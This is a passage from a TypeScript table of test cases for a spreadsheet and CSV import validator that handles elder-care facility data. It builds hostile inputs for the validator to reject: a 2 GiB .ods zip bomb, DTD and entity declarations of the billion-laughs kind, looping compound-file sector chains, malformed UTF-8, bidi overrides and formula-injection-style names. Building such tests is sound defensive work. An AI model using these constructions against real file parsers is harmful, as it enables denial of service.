    expected: { kind: 'file_error', code: 'not_xlsx', zh: /密码/, en: /password/ },
  },
  {
    id: 'encrypted-zip',
    title: 'a zip whose sheet entry is flagged as encrypted (PKWARE)',
    fileName: 'zipcrypto.xlsx',
    async build() {
      const entries = await unzip(sampleBytes(SAMPLE));
      return makeZip(entries.map(({ name, data }) => ({ name, data, encrypted: name === 'xl/worksheets/sheet1.xml' })));
    },
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /加密/, en: /encrypted/ },
  },
  {
    id: 'old-xls',
    title: 'an .xls whose workbook stream is not BIFF (a compound file with garbage in its Workbook stream)',
    fileName: '老表格.xls',
    build: () => compoundFile([{ name: 'Workbook', data: Buffer.from([0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00]) }]),
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /97-2003/, en: /\.xls/ },
  },
  {
    id: 'cfb-fat-loop',
    title: 'an .xls whose sector chain loops (a FAT loop)',
    fileName: '环.xls',
    build: fatLoop,
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /损坏.*loops/, en: /damaged.*loops/ },
  },
  {
    id: 'cfb-absurd-sectors',
    title: 'a 4 KiB .xls that claims 268 million FAT and DIFAT sectors',
    fileName: '巨.xls',
    build: absurdSectorCounts,
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /损坏/, en: /damaged.*FAT sectors claimed/ },
  },
  {
    id: 'ods-zip-bomb',
    title: 'an .ods zip bomb: content.xml of 2 GiB of zeros in 2 MB',
    fileName: 'bomb.ods',
    build: odsBomb,
    expected: { kind: 'file_error', code: 'too_large', zh: /解压后的数据量至少为 2048 MB/, en: /expands to at least 2048 MB/ },
  },
  {
    id: 'ods-dtd-styles',
    title: 'an .ods with a DTD in styles.xml, a part the reader never parses',
    fileName: 'dtd-styles.ods',
    build: () => odsWithDtd('styles.xml'),
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /styles\.xml.*DTD/, en: /styles\.xml.*DTD/ },
  },
  {
    id: 'ods-dtd-manifest',
    title: 'an .ods with a DTD in META-INF/manifest.xml',
    fileName: 'dtd-manifest.ods',
    build: () => odsWithDtd('META-INF/manifest.xml'),
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /manifest\.xml.*DTD/, en: /manifest\.xml.*DTD/ },
  },
  {
    id: 'csv',
    title: 'a CSV renamed to .xlsx (the bytes decide: it reads as CSV, its sheet named by the file)',
    fileName: '机构.xlsx',
    build: () => Buffer.from('\ufeff机构编号,机构名称,所属地区,机构类型,运营性质,床位总数\r\nTX-001,梧桐街道颐养院,桐乡市,养老机构,公办,130\r\n'),
    expected: { kind: 'valid' },
  },
  {
    id: 'csv-million-lines',
    title: 'a staff CSV of 1,000,000 lines',
    fileName: '人员.csv',
    build: () => csvLines(1_000_000),
    expected: { kind: 'file_error', code: 'too_large', zh: /250,000 行/, en: /250,000 rows/ },
  },
  {
    id: 'csv-long-line',
    title: 'a CSV of one 16 MB line',
    fileName: '机构.csv',
    build: () => Buffer.from(`机构编号,${'长'.repeat(5 * 1024 * 1024)}\n`, 'utf8'),
    expected: { kind: 'file_error', code: 'too_large', zh: /第 1 行超过/, en: /Line 1 of/ },
  },
  {
    id: 'csv-mixed-encodings',
    title: 'a CSV of UTF-8 lines and one GBK line',
    fileName: '机构.csv',
    build: mixedEncodings,
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /编码不一致.*第 3 行/, en: /mixes encodings.*line 3/ },
  },
  {
    id: 'pdf',
    title: 'a PDF renamed to .xlsx',
    fileName: '报告.xlsx',
    build: pdf,
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /PDF/, en: /PDF/ },
  },
  {
    id: 'png',
    title: 'a PNG image renamed to .xlsx',
    fileName: '照片.xlsx',
    build: png,
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /图片/, en: /image/ },
  },
  {
    id: 'empty',
    title: 'an empty file',
    fileName: 'empty.xlsx',
    build: () => Buffer.alloc(0),
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /空的/, en: /empty/ },
  },
  {
    id: 'dimension-xfd',
    title: 'a sample whose sheets claim the dimension A1:XFD1048576',
    fileName: 'dimension.xlsx',
    build: () => editSample(SAMPLE, (name, text) => (name.startsWith('xl/worksheets/') ? text.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>') : text)),
    expected: { kind: 'valid' },
  },
  {
    id: 'styled-blank-rows',
    title: 'a sample whose facilities sheet has styled empty rows down to row 1,048,576',
    fileName: 'blank-rows.xlsx',
    async build() {
      const entries = await unzip(sampleBytes(SAMPLE));
      return makeZip(
        entries.map(({ name, data }) => {
          if (name !== 'xl/worksheets/sheet1.xml') return { name, data };
          const text = data.toString('utf8');
          const cut = text.indexOf('</sheetData>');
          const last = Number(/<row r="(\d+)"[^>]*>(?![\s\S]*<row )/.exec(text)?.[1] ?? 1);
          return deflatedEntry(name, deflateChunks(styledBlankRows(text.slice(0, cut), text.slice(cut), last + 1)));
        }),
      );
    },
    expected: { kind: 'valid' },
  },
  {
    id: 'million-rows',
    title: 'a staff sheet of 1,000,000 rows (≈90 MB of XML in a 3 MB file)',
    fileName: 'million.xlsx',
    build() {
      const strings = ['人员编号', '机构编号', '岗位', 'TX-001', '养老护理员'];
      return xlsx(
        [
          { name: '机构', xml: MINIMAL_SHEET },
          { name: '人员', xml: deflatedEntry('', deflateChunks(millionStaffRows(1_000_000))) },
        ],
        { sharedStrings: `${SST_HEAD}${strings.map((s) => `<si><t>${s}</t></si>`).join('')}</sst>` },
      );
    },
    expected: { kind: 'file_error', code: 'too_large', zh: /行/, en: /rows/ },
  },
  {
    id: 'long-cells',
    title: 'cells of 32,767 characters (names, ids and an unknown column)',
    fileName: 'long.xlsx',
    build() {
      const long = (seed: string) => seed.repeat(Math.ceil(LONG_CELL / seed.length)).slice(0, LONG_CELL);
      const rows: Cell[][] = [
        [...FACILITY_HEADER, '备注说明'],
        ['TX-001', long('梧桐街道颐养院'), '桐乡市', '养老机构', '公办', 3, 130, 60, long('x')],
        [long('ID'), long('Wutong Home '), '桐乡市', '养老机构', '民办', 2, 80, 40, long('备注')],
      ];
      return xlsx([{ name: '机构', xml: sheetXml(rows) }]);
    },
    // Issue 16: text fields are bounded (ids 64 characters, names 200).
    expected: errorsAt('range', ['机构!B2', '机构!A3', '机构!B3']),
  },
  {
    id: 'unbroken-name',
    title: 'a facility name of 32,767 letters without a space (issue 16: it took the server down)',
    fileName: 'unbroken.xlsx',
    build: () => namedFacilities(['W'.repeat(LONG_CELL), '梧桐街道颐养院']),
    expected: errorsAt('range', ['机构!B2']),
  },
  {
    id: 'formulas-without-values',
    title: 'formula cells with no cached value',
    fileName: 'formulas.xlsx',
    build() {
      const rows: Cell[][] = [
        FACILITY_HEADER,
        ['TX-001', '梧桐街道颐养院', '桐乡市', '养老机构', '公办', 3, { formula: 'SUM(Z1:Z9)' }, 60],
        ['TX-002', { formula: 'CONCAT("崇福","敬老院")' }, '桐乡市', '养老机构', '公办', 2, 80, { formula: 'G3*0.5', cached: '' }],
      ];
      return xlsx([{ name: '机构', xml: sheetXml(rows) }]);
    },
    expected: {
      kind: 'cell_errors',
      errors: [
        { code: 'type', cell: '机构!G2' },
        { code: 'type', cell: '机构!B3' },
        { code: 'type', cell: '机构!H3' },
      ],
    },
  },
  {
    id: 'control-characters',
    title: 'control characters in names, as Excel writes them (_x0007_, _x001B_, …) and raw C1',
    fileName: 'controls.xlsx',
    build() {
      const rows: Cell[][] = [FACILITY_HEADER, ...CONTROL_NAMES_XML.map((name, i): Cell[] => [`TX-00${i + 1}`, { xml: xmlText(name) }, '桐乡市', '养老机构', '公办', 3, 100, 50])];
      return xlsx([{ name: '机构', xml: sheetXml(rows) }]);
    },
    // Issue 16: an error at each cell with a control character; line breaks read as spaces.
    expected: errorsAt('type', ['机构!B2', '机构!B3', '机构!B4', '机构!B5']),
  },
  {
    id: 'line-breaks',
    title: 'names wrapped over lines in their cells (LF, CR LF, U+2028)',
    fileName: 'wrapped.xlsx',
    build: () => namedFacilities(WRAPPED_NAMES),
    expected: { kind: 'valid' },
  },
  {
    id: 'bidi-override',
    title: 'a name with a right-to-left override (U+202E), which reorders what follows it',
    fileName: 'bidi.xlsx',
    build: () => namedFacilities(['梧桐街道颐养院', '\u202e院养颐道街\u202c 乌镇']),
    expected: errorsAt('type', ['机构!B3']),
  },
  {
    id: 'invalid-utf8',
    title: 'a byte that is not UTF-8 (0xFF) inside a name in a sheet',
    fileName: 'latin1.xlsx',
    build: () => xlsx([{ name: '机构', xml: { name: '', data: sheetWithBytes([0xff]) } }]),
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /sheet1\.xml.*UTF-8/, en: /sheet1\.xml.*not UTF-8/ },
  },
  {
    id: 'invalid-utf8-overlong',
    title: 'an overlong UTF-8 sequence (0xC0 0xBC for "<") in a sheet',
    fileName: 'overlong.xlsx',
    build: () => xlsx([{ name: '机构', xml: { name: '', data: sheetWithBytes([0xc0, 0xbc]) } }]),
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /UTF-8/, en: /not UTF-8/ },
  },
  {
    id: 'invalid-utf8-shared-strings',
    title: 'sharedStrings holding the first two of the three bytes of a Chinese character',
    fileName: 'cut-utf8.xlsx',
    build: () =>
      xlsx([{ name: '机构', xml: MINIMAL_SHEET }], {
        sharedStrings: { name: '', data: Buffer.concat([Buffer.from(`${SST_HEAD}<si><t>梧`), Buffer.from('桐').subarray(0, 2), Buffer.from('</t></si></sst>')]) },
      }),
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /sharedStrings\.xml.*UTF-8/, en: /sharedStrings\.xml.*not UTF-8/ },
  },
  {
    id: 'dtd-content-types',
    title: 'a DTD in [Content_Types].xml, a part the reader never parses',
    fileName: 'dtd-types.xlsx',
    build: () => withDtd('[Content_Types].xml'),
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /Content_Types.*DTD/, en: /Content_Types.*DTD/ },
  },
  {
    id: 'dtd-doc-props',
    title: 'a DTD in docProps/core.xml (document properties)',
    fileName: 'dtd-props.xlsx',
    build: () => withDtd('docProps/core.xml'),
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /core\.xml.*DTD/, en: /core\.xml.*DTD/ },
  },
  {
    id: 'dtd-unknown-sheet',
    title: 'a DTD in a sheet the audit ignores (not part of the template)',
    fileName: 'dtd-sheet.xlsx',
    build: () =>
      xlsx([
        { name: '机构', xml: MINIMAL_SHEET },
        { name: '备忘', xml: sheetXml([['备忘'], ['&lol;']]).replace('<worksheet', '<!DOCTYPE worksheet [<!ENTITY lol "lol">]><worksheet').replace('&amp;lol;', '&lol;') },
      ]),
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /sheet2\.xml.*DTD/, en: /sheet2\.xml.*DTD/ },
  },
  {
    id: 'control-characters-raw',
    title: 'a raw control character (a character reference to U+0001), which XML 1.0 forbids',
    fileName: 'controls-raw.xlsx',
    build: () => xlsx([{ name: '机构', xml: MINIMAL_SHEET.replace('梧桐街道颐养院', '梧桐&#x1;颐养院') }]),
    expected: { kind: 'file_error', code: 'not_xlsx', zh: /损坏/, en: /damaged/ },
  },
  {
    id: 'rtl-emoji',
    title: 'right-to-left text, bidi overrides and emoji in names and ids',
    fileName: 'rtl.xlsx',
    build: () => namedFacilities(RTL_EMOJI_NAMES, ['👩‍⚕️-001', 'עובד-2', 'موظف-3', '护理员-4']),
    expected: { kind: 'valid' },
  },
  {
    id: 'formula-names',
    title: 'names starting with =, +, - and @ (text, never formulas)',
    fileName: 'formula-names.xlsx',
    build: () => namedFacilities(FORMULA_NAMES, ['=1+1', '+S2', '-S3', '@S4']),
    expected: { kind: 'valid' },
  },
];
